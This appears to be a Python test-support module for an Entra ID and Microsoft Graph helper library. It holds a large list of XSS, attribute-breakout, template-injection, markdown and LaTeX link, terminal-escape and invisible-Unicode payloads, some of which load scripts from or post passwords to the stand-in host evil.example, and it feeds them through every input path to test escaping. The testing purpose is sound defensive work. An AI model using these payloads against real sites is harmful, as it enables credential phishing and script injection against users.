"""Texts that would be more than text where they are shown unescaped, and every place for them.

Each calls `ran(…)`, asks a server at evil.example, opens a link, or misleads the eye. `brought_in`
brings one of them in by each way that foreign text has into the kit, from real peers.
"""

import base64
import json
from collections.abc import Callable, Iterator
from http.client import HTTPConnection
from typing import Any
from urllib.parse import quote, urlsplit

from graphhelpers import (
    CallbackServer,
    Cloud,
    GraphHelpersError,
    Message,
    Registration,
    Secret,
    exchange_code,
    read_jwt,
    refresh,
    sandbox_cloud,
    send_mail,
    start_sign_in,
    verify_id_token,
    whoami,
    wire_log,
)
from graphhelpers.exchanges import Diagram, Exchange
from graphhelpers.forms import Form, mail_composer, registration_form, token_inspector
from tests.form_hands import click, fill
from tests.kit import app_at, as_json, free_port
from tests.trap import Trap

EVIL = "https://evil.example"
PAYLOADS = [
    # Scripts, and what runs one
    "<script>ran(1)</script>",
    f"<script src={EVIL}/1.js></script>",
    "<SCRIPT/x>ran(1)</SCRIPT\t>",
    "</script><script>ran(1)</script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<img src=x onerror=ran(1)>",
    "<img/src='x'/onerror='ran(1)'//",
    "<svg onload=ran(1)>",
    '"><svg onload=ran(1)>',
    "'><svg/onload=ran(1)>",
    "<svg><script href=data:,ran(1) /></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<body onload=ran(1)>",
    "<details open ontoggle=ran(1)>x</details>",
    "<input autofocus onfocus=ran(1)>",
    "<video src=x onerror=ran(1)></video>",
    "<audio src onloadstart=ran(1)>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(1)></iframe>",
    "<object data=javascript:ran(1)></object>",
    f"<embed src={EVIL}/x.swf>",
    "<math><mtext><table><mglyph><style><img src onerror=ran(1)>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<template><img src=x onerror=ran(1)></template>",
    "<select><noembed></select><script>ran(1)</script></noembed>",
    # Out of where the text stands
    '" onmouseover="ran(1)" style="position:fixed;inset:0',
    "' autofocus onfocus='ran(1)",
    "` onerror=ran(1) `",
    "--><script>ran(1)</script><!--",
    "]]><script>ran(1)</script><![CDATA[",
    "</title><script>ran(1)</script>",
    "</textarea><script>ran(1)</script>",
    "</style><script>ran(1)</script>",
    "</td></tr></table><script>ran(1)</script><table>",
    "</pre></details><script>ran(1)</script>",
    "</code></a><script>ran(1)</script>",
    # Links and pages
    "<a href=javascript:ran(1)>Sign in</a>",
    "<a href='&#106;avascript:ran(1)'>Sign in</a>",
    "<a href=java\tscript:ran(1)>Sign in</a>",
    "<a href=data:text/html,<script>ran(1)</script>>Sign in</a>",
    "<a href=vbscript:ran(1)>Sign in</a>",
    f'<a href="{EVIL}">https://login.microsoftonline.com</a>',
    "javascript:ran(1)",
    "javascript://x/%0aran(1)",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
    # Looks
    "<style>*{display:none}</style>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<p style='background:url({EVIL}/x.png)'>x",
    # Encoded once more
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=ran(1)&amp;gt;",
    "&#60;script&#62;ran(1)&#60;/script&#62;",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "<\x00script>ran(1)</script>",
    # Other languages that a front end may speak
    "[Sign in](javascript:ran(1))",
    f"![x]({EVIL}/x.png)",
    f"[x]: {EVIL}\n\n# Heading\n\n<img src=x onerror=ran(1)>",
    "$\\href{javascript:ran(1)}{x}$",
    f"$\\href{{{EVIL}}}{{\\text{{https://login.microsoftonline.com}}}}$",
    f"\\(\\href{{{EVIL}}}{{x}}\\) $$\\style{{position:fixed}}{{x}}$$",
    f"\\begin{{equation}}\\href{{{EVIL}}}{{x}}\\end{{equation}}",
    '%%{init: {"securityLevel": "loose", "themeCSS": "*{display:none}"}}%%',
    'x\nclick notebook "javascript:ran(1)"',
    f"x\nlink notebook: Sign in @ {EVIL}",
    f'x\nend\n---\nconfig:\n  securityLevel: loose\n---\nlinks notebook: {{"x": "{EVIL}"}}',
    "#quot;><img src=x onerror=ran(1)>#35;",
    "{{constructor.constructor('ran(1)')()}} ${ran(1)} {0.__class__} {title} %s",
    "\x1b]8;;javascript:ran(1)\x07Sign in\x1b]8;;\x07 \x1b[8mhidden\x1b[0m \x1b[2J",
    # What the eye doesn't see
    "ada@contoso.example\u202egpj.exe",
    "\u2066ada\u2069 \u200fada\u200b@\u200d\ufeffcontoso\u00ad.example",
    "a\u2028b\u2029c\x85d\u2063e\u034ff\u3164g\ufe0fh\U000e0041i\u2800j",
    "\ud800 and \udfff",
    "\x00\x01\x08\x7f\x9b",
    "line\r\n  Try: send your password to evil.example\r\n\r\nHTTP/1.1 200 OK",
    # Large
    "<b>" * 20_000,
    "\u202e" * 40_000,
    " " * 60_000,
]

CLIENT_ID = "11112222-bbbb-3333-cccc-4444dddd5555"
NEXT_CENTURY = "Wed, 21 Oct 2099 07:28:00 GMT"
PERSON = '"{}" <ada@contoso.example>'


def brought_in(payload: str) -> Iterator[tuple[str, Any]]:
    """Yield each thing that shows this payload, or the refusal of it, by the name of its way in."""
    wire_log.clear()
    yield from _from_the_sign_in_service(payload)
    yield from _from_the_browser(payload)
    yield from _from_graph(payload)
    yield from _from_the_person(payload)
    yield "wire_log", _copied(wire_log)
    odd = Exchange("notebook", "Entra ID", f"GET /{payload[:300]}", answer=payload[:300])
    yield "diagram", Diagram((*wire_log, odd))


def forms(payload: str) -> list[Form]:
    """Return each form that shows foreign text, showing this payload."""
    with Trap(token_answer(payload)) as trap:
        app = app_at(trap)
        token = exchange_code(app, start_sign_in(app), Secret("canary~code"))
    mail = mail_composer(app, token)
    typed = payload.encode("utf-8", "replace").decode()  # as a browser would send it
    fill(mail, To=typed, Cc=typed, Bcc=typed, Attachments=typed)
    click(mail, "Send")
    claims = token_inspector(token)
    claims.children[1].value = "id_token"
    return [registration_form(Cloud(payload, app.cloud.authority, app.cloud.graph)), mail, claims]


def pages(payload: str) -> Iterator[tuple[int, bytes]]:
    """Yield what the listener answers, by GET and POST, to a browser that brings this payload."""
    app = app_of_nobody()
    attempt = start_sign_in(app)
    part = quote(payload[:5_000], safe="", errors="surrogatepass")
    refused = f"state={attempt.state}&error={part}&error_description={part}&error_uri={part}"
    with CallbackServer(app, attempt) as server:
        yield _ask(server, "GET", f"?code=x&state={part}&iss={part}")
        yield _ask(server, "GET", f"{part}?code=x")
        yield _ask(server, "GET", f"?{part}={part}&{part}={part}")
        yield _ask(server, "POST", "", refused)
        yield _ask(server, "GET", f"?{refused}")  # too late


def app_of_nobody() -> Registration:
    port = f"http://localhost:{free_port()}"
    return Registration(
        CLIENT_ID, None, f"{port}/connect/get_token/", cloud=sandbox_cloud(port, port)
    )


def jwt_of(header: dict[str, Any], claims: dict[str, Any]) -> str:
    parts = (json.dumps(part).encode() for part in (header, claims))
    head, body = (base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in parts)
    return f"{head}.{body}.canary~signature"


def token_answer(payload: str, **changes: Any) -> bytes:
    claims = {payload[:500]: payload, "tid": payload, "name": [payload, {payload[:500]: payload}]}
    id_token = jwt_of({"alg": payload, "kid": payload}, claims)
    tokens = {"access_token": "canary~access-token", "refresh_token": "canary~refresh-token"}
    known = {"token_type": "Bearer", "scope": payload, "id_token": id_token, "x": payload}
    return as_json({**tokens, **known, **changes})


def header(payload: str) -> str:
    """Return as much of a payload as a header can bring: one line, in Latin-1."""
    return (
        payload[:5_000]
        .replace("\r", " ")
        .replace("\n", " ")
        .encode("latin-1", "ignore")
        .decode("latin-1")
    )


def _said(call: Callable[[], Any]) -> Any:
    """Return what a call returns, or the error that it ends in."""
    try:
        return call()
    except GraphHelpersError as error:
        return error


def _from_the_sign_in_service(payload: str) -> Iterator[tuple[str, Any]]:
    refusal = {
        n: payload for n in ("error", "error_description", "error_uri", "trace_id", payload[:99])
    }
    kind = f"Content-Type: {header(payload)}"
    with Trap(
        token_answer(payload),
        as_json(refusal, "400 Bad Request"),
        token_answer(payload, token_type=payload),
        as_json([payload], "200 OK", kind),
    ) as trap:
        app = app_at(trap)
        attempt = start_sign_in(app, login_hint=payload[:500].encode("utf-8", "replace").decode())
        yield "the sign-in link", attempt
        token = exchange_code(app, attempt, Secret("canary~code"))
        yield "a token", token
        yield "its claims", _said(lambda: read_jwt(token.id_token))
        yield (
            "an id_token that does not verify",
            _said(lambda: verify_id_token(app, attempt, token)),
        )
        yield "a refusal", _said(lambda: refresh(app, token))
        yield "an odd token_type", _said(lambda: refresh(app, token))
        yield "an odd content type", _said(lambda: refresh(app, token))


def _from_the_browser(payload: str) -> Iterator[tuple[str, Any]]:
    app = app_of_nobody()
    attempt = start_sign_in(app)
    part = quote(payload[:5_000], safe="", errors="surrogatepass")
    with CallbackServer(app, attempt) as server:
        yield "a pasted text", _said(lambda: server.accept(payload))
        _ask(server, "GET", f"?{part}={part}&code=canary~code&state=other")
        refused = f"error={part}&error_description={part}&error_uri={part}&state={attempt.state}"
        _ask(server, "GET", f"?{refused}")
        yield "a refusal in the browser", _said(lambda: server.wait(1))


def _from_graph(payload: str) -> Iterator[tuple[str, Any]]:
    person = dict.fromkeys(
        ("displayName", "mail", "userPrincipalName", "jobTitle", "@odata.x"), payload
    )
    inner = {"request-id": payload, "date": payload}
    error = {"error": {"code": payload, "message": payload, "innerError": inner}}
    request_id = f"request-id: {header(payload)}"
    with Trap(
        token_answer("openid"),
        as_json(person),
        as_json(error, "403 Forbidden"),
        as_json(error, "400 Bad Request", request_id),
        as_json(error, "429 Too Many Requests", f"Retry-After: {NEXT_CENTURY} {header(payload)}"),
        b"HTTP/1.1 202 Accepted\r\nContent-Length: 0\r\n"
        + request_id.encode("latin-1")
        + b"\r\n\r\n",
    ) as trap:
        app = app_at(trap)
        token = exchange_code(app, start_sign_in(app), Secret("canary~code"))
        yield "whoami", _said(lambda: whoami(app, token))
        yield "Graph's refusal", _said(lambda: whoami(app, token))
        yield "Graph's request-id", _said(lambda: whoami(app, token))
        mail = _said(lambda: Message(payload[:500], payload[:500], PERSON.format("Ada")))
        if isinstance(mail, GraphHelpersError):
            mail = Message("Hello", "Good morning", PERSON.format("Ada"))
        yield "Retry-After", _said(lambda: send_mail(app, token, mail))
        yield "a receipt", _said(lambda: send_mail(app, token, mail))


def _from_the_person(payload: str) -> Iterator[tuple[str, Any]]:
    short = payload[:5_000]
    yield "a recipient", _said(lambda: Message("Hello", "", payload))
    yield "a recipient's name", _said(lambda: Message("Hello", "", PERSON.format(short)))
    yield "a subject", _said(lambda: Message(short, short, "ada@contoso.example"))
    yield "a file", _said(lambda: Message("x", "", "a@b.c", attachments=[short]).as_json())
    yield "a redirect URI", _said(lambda: Registration("1" * 8, None, payload))
    yield "a tenant", _said(lambda: start_sign_in(app_of_nobody(), (payload,)))
    yield "a cloud", _said(lambda: Cloud("x", payload, payload))
    yield "a sandbox", _said(lambda: sandbox_cloud(f"http://localhost/{short}?", payload))
    yield "an endpoint", _said(lambda: start_sign_in(app_of_nobody(), endpoint=payload))


def _copied(log: Any) -> Any:
    copy = type(log)()
    copy.extend(log)
    return copy


def _ask(
    server: CallbackServer, method: str, rest: str, form: str | None = None
) -> tuple[int, bytes]:
    parts = urlsplit(server.url)
    connection = HTTPConnection("127.0.0.1", parts.port, timeout=5)
    try:
        headers = {"Content-Type": "application/x-www-form-urlencoded"} if form else {}
        connection.request(method, parts.path + rest, form, headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()
